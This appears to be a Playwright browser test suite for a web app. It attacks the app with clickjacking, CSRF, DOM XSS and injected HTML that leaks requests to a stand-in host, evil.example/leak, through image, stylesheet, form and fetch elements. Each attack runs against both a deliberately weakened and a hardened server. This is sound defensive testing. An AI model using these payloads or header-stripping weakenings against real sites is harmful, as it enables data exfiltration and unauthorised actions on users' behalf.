import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import { after, test, type TestContext } from 'node:test'
import { chromium, type BrowserContext, type Page } from 'playwright-core'
import { startTestServer, type TestServerOptions } from './app-testing.ts'
import { openTestDatabase } from './lib/database-testing.ts'
import { listenOnLoopback } from './lib/loopback.ts'

/** As attacks.test.ts, by a page in a real browser: here the browser's own rules are part of the defence. */
const database = await openTestDatabase()
const browser = await chromium.launch({
  executablePath: '/usr/bin/chromium',
  args: ['--no-sandbox', '--disable-gpu', '--host-resolver-rules=MAP evil.example 127.0.0.1'],
})
after(async () => {
  await browser.close()
  await database.close()
})

interface Scene {
  server: Awaited<ReturnType<typeof startTestServer>>
  context: BrowserContext
  page: Page
  /** Answers every request with this page; counts those for /leak. */
  evil: { port: number; leaks: number; html: string }
}

async function setTheScene(t: TestContext, weaken?: TestServerOptions['weaken']): Promise<Scene> {
  const server = await startTestServer({ database, ...(weaken && { weaken }) })
  const evil = { port: 0, leaks: 0, html: '' }
  const site = createServer((request, response) => {
    if (request.url?.startsWith('/leak')) evil.leaks += 1
    response.writeHead(200, { 'content-type': 'text/html' }).end(evil.html)
  })
  evil.port = await listenOnLoopback(site)
  const context = await browser.newContext()
  t.after(async () => {
    await context.close()
    site.close()
    await server.close()
  })
  const page = await context.newPage()
  await page.goto(server.access.createSignInUrl())
  return { server, context, page, evil }
}

test('signing in leaves a cookie that no script can read', async (t) => {
  const { page, context, server } = await setTheScene(t)
  assert.equal(page.url(), `${server.url}/`)
  assert.equal(await page.evaluate('document.cookie'), '')
  assert.equal((await context.cookies()).length, 1)
  const { status, who } = await page.evaluate(async () => {
    const response = await fetch('/api/session')
    return { status: response.status, who: await response.text() }
  })
  assert.equal(status, 200)
  assert.match(who, /"Owner"/)
})

test('our page is laid invisibly under the buttons of another (clickjacking)', async (t) => {
  const attack = async ({ page, evil, server }: Scene) => {
    evil.html = `<iframe src="${server.url}/"></iframe>`
    await page.goto(`http://evil.example:${evil.port}/`)
    return page.frames()[1]?.evaluate('document.body.innerText')
  }
  const isWeak = await setTheScene(t, ({ droppedHeaders }) => {
    droppedHeaders.push('content-security-policy', 'x-frame-options')
  })
  assert.equal(await attack(isWeak), 'the web app')
  assert.notEqual(await attack(await setTheScene(t)), 'the web app')
})

test('a page on another port of this host sends what changes something (CSRF)', async (t) => {
  const attack = async ({ page, evil, server }: Scene) => {
    let links = 0
    const real = { ...server.access.routes.links }
    server.access.routes.links.create = () => {
      links += 1
      return real.create()
    }
    // The same host, so the same site: the browser sends the SameSite=Strict cookie along.
    await page.goto(`http://127.0.0.1:${evil.port}/`)
    await page.evaluate(async (url) => {
      const wish = { method: 'POST', mode: 'no-cors', credentials: 'include' } as const
      // It may not read the answer; that the request arrives is enough for this attack.
      await fetch(url, wish).catch(() => undefined)
    }, `${server.url}/api/sign-in-links`)
    return links
  }
  const isWeak = await setTheScene(t, (parts) => {
    const { guard } = parts
    parts.guard = ({ headers, ...asking }) => {
      const cookie = headers.get('cookie') ?? ''
      return guard({ ...asking, method: 'GET', headers: new Headers({ cookie }) })
    }
  })
  assert.equal(await attack(isWeak), 1)
  assert.equal(await attack(await setTheScene(t)), 0)
})

test('text becomes markup by a careless line of our own page (DOM XSS)', async (t) => {
  const attack = async ({ page, server }: Scene) => {
    await page.goto(server.url)
    return page.evaluate(`(() => {
      try { document.body.insertAdjacentHTML('beforeend', '<i id="made"></i>') } catch {}
      return document.getElementById('made') !== null
    })()`)
  }
  const dropped = 'content-security-policy'
  const isWeak = await setTheScene(t, ({ droppedHeaders }) => droppedHeaders.push(dropped))
  assert.equal(await attack(isWeak), true)
  assert.equal(await attack(await setTheScene(t)), false)
})

test('what was smuggled into our page runs, and carries something away', async (t) => {
  const smuggled = (port: number) => `<script>window.isTaken = true</script>
    <img src="http://evil.example:${port}/leak?by=image">
    <link rel="stylesheet" href="http://evil.example:${port}/leak?by=style">
    <form action="http://evil.example:${port}/leak?by=form"><button>Send</button></form>`
  const attack = async ({ page, evil, server }: Scene) => {
    evil.html = smuggled(evil.port)
    await page.goto(server.url)
    await page.setContent(smuggled(evil.port)).catch(() => undefined)
    await page.evaluate((port) => {
      void fetch(`http://evil.example:${port}/leak?by=fetch`, { mode: 'no-cors' }).catch(() => {})
    }, evil.port)
    return { isTaken: await page.evaluate('Boolean(globalThis.isTaken)'), leaks: evil.leaks }
  }
  const dropped = 'content-security-policy'
  const isWeak = await setTheScene(t, ({ droppedHeaders }) => droppedHeaders.push(dropped))
  const weak = await attack(isWeak)
  assert.ok(weak.isTaken === true && weak.leaks >= 2, JSON.stringify(weak))
  assert.deepEqual(await attack(await setTheScene(t)), { isTaken: false, leaks: 0 })
})
